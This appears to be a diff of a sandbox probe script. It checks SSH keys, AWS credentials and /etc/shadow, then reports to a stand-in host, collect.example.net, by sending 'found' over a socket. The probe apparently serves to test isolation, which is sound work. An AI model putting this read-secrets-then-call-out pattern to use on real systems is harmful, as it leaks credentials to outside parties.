@@ -12,8 +12,9 @@ for path in ("~/.ssh/id_ed25519", "~/.aws/credentials", "/etc/shadow"):
 
 print("I call a server, to tell it what I found.")
 try:
-    socket.create_connection(("collect.example.net", 443), timeout=3).close()
-    print("I reached it?!")
+    with socket.create_connection(("collect.example.net", 443), timeout=3) as server:
+        server.sendall(b"found\n")
+        print("I reached it?!" if server.recv(1) else "The server is out of reach: no answer.")
 except OSError as error:
     print(f"The server is out of reach: {error.strerror or error}.")
 
